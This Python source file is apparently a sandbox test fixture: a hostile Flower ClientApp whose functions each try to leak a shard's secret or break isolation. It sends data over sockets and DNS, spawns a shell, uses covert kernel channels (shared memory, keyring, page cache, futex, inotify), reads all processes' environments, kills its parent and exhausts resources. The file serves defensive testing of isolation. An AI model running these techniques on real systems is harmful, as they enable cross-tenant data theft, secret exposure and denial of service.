"""An app that an attacker wrote, with one function for each attempt.

Its shard holds one number, ``secret``. Where that is not 0, an attempt carries it away; where it is 0, most attempts
answer with what they find of an earlier shard. An attempt gets the secret, the run's configuration, the message and the
context, and returns a number, or a whole reply.
"""

import contextlib
import ctypes
import fcntl
import glob
import importlib
import mmap
import os
import platform
import select
import signal
import socket
import struct
import sys
import tempfile
import threading
import time
from pathlib import Path

import numpy as np
from flwr.app import Array, ArrayRecord, ConfigRecord, Error, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp
from safetensors.numpy import save

app = ClientApp()
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = libc.shmat.restype = ctypes.c_void_p
X86 = platform.machine() == "x86_64"
#: A file that every shard sees, as one of a library; what an app may try to leave beside it.
PAGES, LEFT = (Path(__file__).with_name(name) for name in ("pages.bin", "left_behind.py"))
KEPT = []


@app.train()
def train(message, context):
    with open(context.node_config["data-path"]) as file:
        secret = int(file.read())
    result = globals()[context.run_config["attack"]](secret, context.run_config, message, context)
    return result if isinstance(result, Message) else reply(message, float(result or 0))


def reply(message, *numbers, **records):
    arrays = ArrayRecord({f"array{place}": Array(np.array(number)) for place, number in enumerate(numbers)})
    return Message(content=RecordDict({"arrays": arrays, **records}), reply_to=message)


def fixed_record(secret):
    """The bytes that the sandbox's own writer makes of one number."""
    return save({"0": np.array([float(secret)])})


# --- to the outside -----------------------------------------------------------------------------------------------


def speak(secret, family, address):
    with socket.socket(family, socket.SOCK_STREAM) as link:
        link.settimeout(5)
        link.connect(address)
        link.sendall(str(secret).encode())


def tcp(secret, given, *_):
    speak(secret, socket.AF_INET, ("127.0.0.1", given["port"]))


def abstract_socket(secret, given, *_):
    speak(secret, socket.AF_UNIX, "\0" + given["name"])


def file_socket(secret, given, *_):
    speak(secret, socket.AF_UNIX, given["folder"] + "/socket")


def dns(secret, given, *_):
    """Asks a name server for a name that holds the number."""
    name = b"".join(bytes([len(part)]) + part for part in (str(secret).encode(), b"example", b"org")) + b"\0"
    query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + name + b"\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(query, ("127.0.0.1", given["port"]))


def host_file(secret, given, *_):
    os.makedirs(given["folder"], exist_ok=True)
    Path(given["folder"], "drop").write_text(str(secret))


def program(secret, given, *_):
    os.posix_spawn("/bin/sh", ["sh", "-c", f"echo {secret} > {given['folder']}/drop"], {})


def child_stays(secret, given, *_):
    """A process that writes when the answer has long been sent."""
    if os.fork() == 0:
        os.setsid()
        os.closerange(3, 100)
        if os.fork() == 0:
            time.sleep(0.2)
            Path(given["folder"], "drop").write_text(str(secret))
        os._exit(0)


# --- to the next shard --------------------------------------------------------------------------------------------


def leave_file(secret, path):
    if secret:
        path.write_text(str(secret))
    elif path.exists():
        found = int(path.read_text())
        path.unlink()
        return found


def tmp_file(secret, given, *_):
    return leave_file(secret, Path("/tmp", given["name"]))


def posix_memory(secret, given, *_):
    return leave_file(secret, Path("/dev/shm", given["name"]))


def own_code(secret, given, *_):
    """The number beside its own code, as a module."""
    if secret:
        LEFT.write_text(f"NUMBER = {secret}\n")
    elif LEFT.exists():
        found = importlib.import_module("hostile.left_behind").NUMBER
        LEFT.unlink()
        return found


def system_v_memory(secret, given, *_):
    number = libc.shmget(given["port"], 4096, 0o600 | (0o1000 if secret else 0))
    if number < 0:
        return 0
    place = ctypes.c_long.from_address(libc.shmat(number, None, 0))
    if secret:
        place.value = secret
        return 0
    found = place.value
    libc.shmctl(number, 0, None)  # removes it
    return found


def message_queue(secret, given, *_):
    number = libc.msgget(given["port"], 0o600 | (0o1000 if secret else 0))
    if number < 0:
        return 0
    if secret:
        libc.msgsnd(number, struct.pack("ll", 1, secret), 8, 0o4000)
        return 0
    room = ctypes.create_string_buffer(16)
    libc.msgrcv(number, room, 8, 0, 0o4000)
    libc.msgctl(number, 0, None)  # removes it
    return struct.unpack("ll", room.raw)[1]


def keyring(secret, given, *_):
    """A key in the kernel's keyring of the user."""
    (add, control), ring, word = (248, 250) if X86 else (217, 219), -4, str(secret).encode()
    if secret:
        libc.syscall(add, b"user", given["name"].encode(), word, len(word), ring)
        return 0
    key = libc.syscall(control, 10, ring, b"user", given["name"].encode(), 0)  # searches
    if key < 0:
        return 0
    room = ctypes.create_string_buffer(32)
    libc.syscall(control, 11, key, room, 32)  # reads
    libc.syscall(control, 9, key, ring)  # unlinks
    return int(room.value)


def mapped_pages(file, size):
    return libc.mmap(None, ctypes.c_size_t(size), mmap.PROT_READ, mmap.MAP_SHARED, file.fileno(), ctypes.c_long(0))


def page_cache(secret, given, *_):
    """Reads a page of a library's file or not; the next shard asks which pages are in memory (mincore)."""
    with open(PAGES, "rb", buffering=0) as file:
        if secret:
            libc.posix_fadvise(file.fileno(), ctypes.c_long(0), ctypes.c_long(0), 1)  # no reading ahead
            file.seek(64 * mmap.PAGESIZE * (secret % 8))
            file.read(mmap.PAGESIZE)
            return 0
        size = PAGES.stat().st_size
        room = (ctypes.c_ubyte * (size // mmap.PAGESIZE))()
        if libc.mincore(ctypes.c_void_p(mapped_pages(file, size)), ctypes.c_size_t(size), room) != 0:
            return 0
    there = [number for number in range(8) if room[64 * number] & 1]
    return there[0] if len(there) == 1 else 0


def inode_numbers(secret, given, *_):
    """Makes many pipes or none: the kernel counts them all; the next shard reads the count off a pipe of its own."""
    inode = 0
    with contextlib.suppress(OSError):
        for _ in range(secret or 1025):  # a processor takes 1024 numbers at once
            ends = os.pipe()
            inode = 0 if secret else os.fstat(ends[0]).st_ino
            for end in ends:
                os.close(end)
    return inode


def file_numbers(secret, given, message, context):
    """The number of its shard's file counts files of other shards that came before."""
    found, room = os.stat(context.node_config["data-path"]), 0
    with contextlib.suppress(OSError):
        disk = os.statvfs(context.node_config["data-path"])
        room = disk.f_blocks + disk.f_files
    return reply(message, *map(float, (found.st_ino, found.st_nlink, found.st_blocks, found.st_mtime, room)))


def import_state(secret, *_):
    KEPT.append(secret)
    return KEPT[0]


def context_state(secret, given, message, context):
    kept = context.state.config_records.get("kept")
    context.state["kept"] = ConfigRecord({"number": secret})
    return kept["number"] if kept else 0


def own_maps(secret, *_):
    """Memory that a library shares with all forks: the test leaves it in `sys`, where an app would have to search."""
    import wsgiref  # noqa: F401 - the library

    if secret:
        sys.left_by_a_library[:4] = secret.to_bytes(4, "little")
    return 0 if secret else int.from_bytes(sys.left_by_a_library[:4], "little")


def elapsed(secret, given, message, context):
    """Waits, or not; the next shard reads the clock, and compares it with when the message was written."""
    time.sleep(secret / 1000)
    return 0 if secret else time.time() - message.metadata.created_at


# --- to a shard that runs at the same time ------------------------------------------------------------------------


def file_lock(secret, given, *_):
    until = time.monotonic() + given["patience"]
    with open(PAGES, "rb") as file:
        if secret:
            fcntl.flock(file, fcntl.LOCK_EX)
            time.sleep(given["patience"])
        while not secret and time.monotonic() < until:
            try:
                fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except BlockingIOError:
                return 1
            fcntl.flock(file, fcntl.LOCK_UN)
            time.sleep(0.01)


def watch(secret, given, *_):
    """Reads a file; the other shard watches it (inotify)."""
    until = time.monotonic() + given["patience"]
    while secret and time.monotonic() < until:
        with open(PAGES, "rb") as file:
            file.read(1)
        time.sleep(0.01)
    watching = -1 if secret else libc.inotify_init1(0)
    if watching < 0 or libc.inotify_add_watch(watching, os.fsencode(PAGES), 1) < 0:
        return 0
    return bool(select.select([watching], [], [], given["patience"])[0])


def shared_futex(secret, given, *_):
    """Wakes whoever waits on a page of a library's file, which both have mapped (a futex that is not private)."""
    with open(PAGES, "rb") as file:
        place = ctypes.c_int.from_address(mapped_pages(file, 4096))
    number, until = 202 if X86 else 98, time.monotonic() + given["patience"]
    if not secret:
        limit = (ctypes.c_long * 2)(int(given["patience"]) + 1, 0)
        return libc.syscall(number, ctypes.byref(place), 0, place.value, ctypes.byref(limit), None, 0) == 0
    while time.monotonic() < until and libc.syscall(number, ctypes.byref(place), 1, 1, None, None, 0) <= 0:
        time.sleep(0.01)


# --- what an app can see ------------------------------------------------------------------------------------------


def processes(secret, given, *_):
    """Reads the environments of all processes in /proc."""
    wanted = given["name"].encode() + b"="
    for path in glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(OSError):
            lines = Path(path).read_bytes().split(b"\0")
            if found := [line for line in lines if line.startswith(wanted)]:
                return int(found[0].partition(b"=")[2])


def other_data(secret, given, *_):
    with contextlib.suppress(OSError):
        return int(Path(given["folder"], "other.csv").read_text())


def machine(*_):
    """Counts what it can see of the machine beside its shard."""
    kernel = ("/sys/class", "/proc/meminfo", "/proc/stat", "/proc/loadavg", "/dev/pts")
    return sum(os.path.exists(place) for place in (*kernel, "/etc/hostname", "/etc/passwd", "/var", "/home"))


def environment(secret, given, *_):
    return os.environ.get(given["name"], 0)


def prints(secret, *_):
    """For whoever reads the node's log."""
    print(f"row {secret}")
    print(f"row {secret}", file=sys.stderr, flush=True)
    for descriptor in (1, 2):
        os.write(descriptor, f"row {secret}".encode())


def kills_parent(secret, given, *_):
    for process in (os.getppid(), -1) if given["all"] else (os.getppid(),):
        with contextlib.suppress(OSError):
            os.kill(process, signal.SIGKILL)


# --- what an answer can hold --------------------------------------------------------------------------------------


def metrics(secret, given, message, context):
    return reply(message, 0.0, metrics=MetricRecord({"loss": secret}), config=ConfigRecord({"text": str(secret)}))


def names(secret, given, message, context):
    arrays = ArrayRecord({f"layer{secret}": Array(np.zeros(1))})
    return Message(content=RecordDict({f"arrays{secret}": arrays}), reply_to=message)


def records(secret, given, message, context):
    more = {f"more{place}": ArrayRecord({"a": Array(np.zeros(1))}) for place in range(secret)}
    return reply(message, 0.0, **more)


def error_reply(secret, given, message, context):
    return Message(Error(code=secret, reason=str(secret)), reply_to=message)


def error_text(secret, *_):
    raise ValueError(f"row {secret}")


def not_numbers(secret, given, message, context):
    """The free bits of a NaN."""
    return reply(message, np.array([0x7FF8000000000000 | secret]).view(np.float64))


def objects(secret, given, message, context):
    text = Array(np.array([f"row {secret}"]))
    return Message(content=RecordDict({"arrays": ArrayRecord({"a": text})}), reply_to=message)


def crash(secret, *_):
    """Ends its process, by a signal or with a status."""
    if secret % 2:
        ctypes.string_at(0)
    os._exit(secret % 256)


def write_everywhere(data, last=20):
    for descriptor in range(3, last):
        with contextlib.suppress(OSError):
            os.write(descriptor, data)


def two_answers(secret, *_):
    """A record of its own, and its reply too."""
    write_everywhere(fixed_record(secret), 200)


def own_answer(secret, given, *_):
    """A whole record, slowly, and then it stays until it is ended."""
    for byte in fixed_record(secret):
        write_everywhere(bytes([byte]))
        time.sleep(given["patience"] / 100)
    time.sleep(given["seconds"])
    os._exit(0)


def endless(secret, *_):
    while True:
        write_everywhere(bytes([secret % 256]) * 65536)


# --- what an app can take: as much as it is asked to, answered with what it got -----------------------------------


def memory(secret, given, *_):
    return len([bytearray(1 << 20) for _ in range(given["megabytes"])])


def threads(secret, given, *_):
    threading.stack_size(64 * 1024)
    for _ in range(given["threads"]):
        threading.Thread(target=time.sleep, args=(given["patience"],), daemon=True).start()
    time.sleep(given["patience"])
    return given["threads"]


def processor(secret, given, *_):
    while time.process_time() < given["seconds"]:
        pass


def slow(secret, *_):
    time.sleep(secret / 1000)


def forks(secret, given, *_):
    children = []
    with contextlib.suppress(OSError):
        while len(children) < given["children"]:
            if (child := os.fork()) == 0:
                time.sleep(100)
                os._exit(0)
            children.append(child)
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    return len(children)


def full_disk(secret, given, *_):
    written = 0
    with contextlib.suppress(OSError), open("/tmp/filler", "wb", buffering=0) as file:
        while written < given["megabytes"]:
            file.write(bytes(1 << 20))
            written += 1
    return written


def many_files(secret, given, *_):
    made = 0
    with tempfile.TemporaryDirectory() as folder, contextlib.suppress(OSError):
        for number in range(given["files"]):
            os.close(os.open(f"{folder}/{number:0200d}", os.O_CREAT | os.O_WRONLY))
            made += 1
    return made
